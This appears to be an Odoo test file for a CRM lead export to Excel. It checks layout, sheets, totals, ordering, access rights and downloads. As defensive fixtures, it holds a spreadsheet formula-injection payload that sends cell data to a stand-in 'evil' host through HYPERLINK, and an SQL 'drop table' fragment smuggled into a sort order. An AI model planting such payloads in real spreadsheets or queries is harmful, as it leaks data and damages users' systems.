import io
import json
from datetime import date, datetime

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from odoo.addons.mail.tests.common import mail_new_test_user

from ..workbook_reader import read_sheets
from .common import LeadImportCommon

EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'


@tagged("post_install", "-at_install")
class TestExport(HttpCase, LeadImportCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.exporter = cls.user_sales_manager
        cls.exporter.group_ids += cls.env.ref("base.group_allow_export")
        leads = cls.env["crm.lead"]
        leads.search([]).unlink()
        cls.stages = cls.env["crm.stage"].search([("is_won", "=", False)])[:2]
        cls.leads = leads.create(
            [
                {
                    "name": EVIL,
                    "partner_name": "@x",
                    "phone": "+989121234567",
                    "email_from": "Ali <a@b.ir>",
                    "stage_id": cls.stages[1].id,
                    "expected_revenue": 1_500_000,
                    "date_deadline": "2026-05-12",
                    "user_id": cls.user_sales_leads.id,
                    "team_id": cls.sales_team_1.id,
                    "state_id": cls.tehran.id,
                    "country_id": cls.tehran.country_id.id,
                    "description": f"<p>{'یادداشت بلند ' * 4000}</p>",
                },
                {
                    "name": "-1 _x0041_",
                    "stage_id": cls.stages[0].id,
                    "website": "http://a.ir",
                    "user_id": cls.exporter.id,
                    "expected_revenue": 250.5,
                },
            ]
        )

    def export(self, user=None, **values):
        env = self.env(user=user or self.exporter, context={"lang": "fa_IR"})
        export = env["crm.lead.export"].create(values)
        with export._write_workbook() as file:
            return file.read()

    def load(self, content):
        return openpyxl.load_workbook(io.BytesIO(content))

    def test_cells(self):
        """LT-16, LT-42, C.9: right to left, dates and numbers as such, all else as
        text: no formula, no link, however long."""
        book = self.load(self.export(order="id asc"))
        sheet = book.worksheets[0]
        self.assertTrue(sheet.sheet_view.rightToLeft)
        self.assertTrue(sheet.row_dimensions[1].hidden)
        self.assertTrue(sheet.column_dimensions["A"].hidden)
        self.assertTrue(sheet.auto_filter.ref.startswith("A2:"))
        names = [(cell.value or "").removeprefix("lead1:") for cell in sheet[1]]
        first, second = (
            dict(zip(names, (cell for cell in row), strict=True))
            for row in sheet.iter_rows(min_row=3)
        )
        self.assertEqual(first["name"].value, EVIL)
        self.assertEqual(first["name"].data_type, "s")
        self.assertEqual(first["partner_name"].value, "@x")
        self.assertEqual(first["phone"].value, "+989121234567")
        self.assertEqual(second["name"].value, "-1 _x005F_x0041_")
        self.assertFalse(second["website"].hyperlink)
        self.assertEqual(first["expected_revenue"].value, 1_500_000)
        self.assertEqual(first["date_deadline"].value, datetime(2026, 5, 12))
        self.assertTrue(first["date_deadline"].is_date)
        self.assertTrue(first["info"].is_date)
        self.assertEqual(first["state_id"].value, "تهران")
        self.assertEqual(names.count("+"), 3)
        self.assertFalse(
            [c for row in sheet for c in row if c.data_type == "f" or c.hyperlink]
        )
        lists = {v.type for v in sheet.data_validations.dataValidation}
        self.assertEqual(lists, {"list"})

    def test_sheets_and_totals(self):
        """LT-42: a sheet for each stage in their order, and totals that add up."""
        self.stages[0].with_context(lang="fa_IR").name = "a/b: [x]*?\\" + "y" * 40
        book = self.load(self.export(by_stage=True))
        titles = book.sheetnames
        self.assertEqual(titles[0], ("a b x " + "y" * 40)[:31])
        self.assertEqual(len([s for s in book if s.sheet_state == "visible"]), 3)
        *_rows, total = book.worksheets[-1].iter_rows(values_only=True)
        self.assertEqual(total[1:4], ("IRR", 2, 1_500_250.5))
        self.assertEqual(total[4], sum(self.leads.mapped("prorated_revenue")))
        single = self.load(self.export(with_totals=False))
        self.assertEqual(len([s for s in single if s.sheet_state == "visible"]), 1)

    def test_whole_result(self):
        """LT-16: the search decides, not the page; archived leads only if asked for."""
        self.leads[1].active = False
        found = [("id", "in", self.leads.ids)]
        for values, count in (
            ({"domain": json.dumps(found)}, 1),
            ({"domain": json.dumps(found), "active_test": False}, 2),
            ({"domain": json.dumps([["name", "=like", "=HYP%"]])}, 1),
        ):
            content = self.export(**values)
            [(_title, rows)] = read_sheets(content, "a.xlsx")
            self.assertEqual(len(rows), 2 + count)
        context = {"active_model": "crm.lead", "active_ids": self.leads.ids}
        export = self.env["crm.lead.export"].with_context(**context).create({})
        self.assertEqual(export.lead_count, 2)
        self.env["ir.config_parameter"].set_param("web.active_ids_limit", 2)
        context["active_domain"] = [("name", "=like", "=HYP%")]
        export = self.env["crm.lead.export"].with_context(**context).create({})
        self.assertEqual(export.lead_count, 1)

    def test_order(self):
        """LT-16: in the order of the list; what is no order is not passed on."""
        leads = self.env["crm.lead.export"].new
        self.assertEqual(
            leads({"order": "name desc, 1; drop table x, phone"})._get_order(),
            "name desc, phone, priority desc, id desc",
        )

    def test_rights(self):
        """LT-16, 4.7: only with the right to export, and only what the user sees."""
        salesman = self.user_sales_salesman
        salesman.group_ids -= self.env.ref("base.group_allow_export")
        with self.assertRaises(AccessError):
            self.export(salesman)
        salesman.group_ids += self.env.ref("base.group_allow_export")
        mine = self.leads[1]
        mine.user_id = salesman
        content = self.export(salesman)
        [(_title, rows)] = read_sheets(content, "a.xlsx")
        self.assertEqual([cells[1] for _no, cells in rows[2:]], [mine.name])

    @mute_logger("odoo.http")
    def test_download(self):
        """LT-16, 4.7: the file comes as a stream, to whom the export belongs."""
        export = self.env["crm.lead.export"].with_user(self.exporter).create({})
        url = export.action_download()["url"]
        self.authenticate(self.exporter.login, self.exporter.login)
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        self.assertIn("spreadsheetml", response.headers["Content-Type"])
        self.assertTrue(response.content.startswith(b"PK"))
        stranger = mail_new_test_user(
            self.env,
            login="stranger",
            groups="sales_team.group_sale_manager,base.group_allow_export",
        )
        self.authenticate(stranger.login, stranger.login)
        self.assertEqual(self.url_open(url).status_code, 403)
        self.assertEqual(
            self.url_open("/crm_lead_tools/export/0.xlsx").status_code, 404
        )

    def test_dates_without_jalali(self):
        """LT-42: without the Jalali calendar dates are Gregorian, year first."""
        sheet = self.load(
            self.export(domain=json.dumps([["date_deadline", "!=", False]]))
        )
        cells = [c for row in sheet.worksheets[0].iter_rows(min_row=3) for c in row]
        days = [c.value.date() for c in cells if c.is_date]
        self.assertIn(date(2026, 5, 12), days)
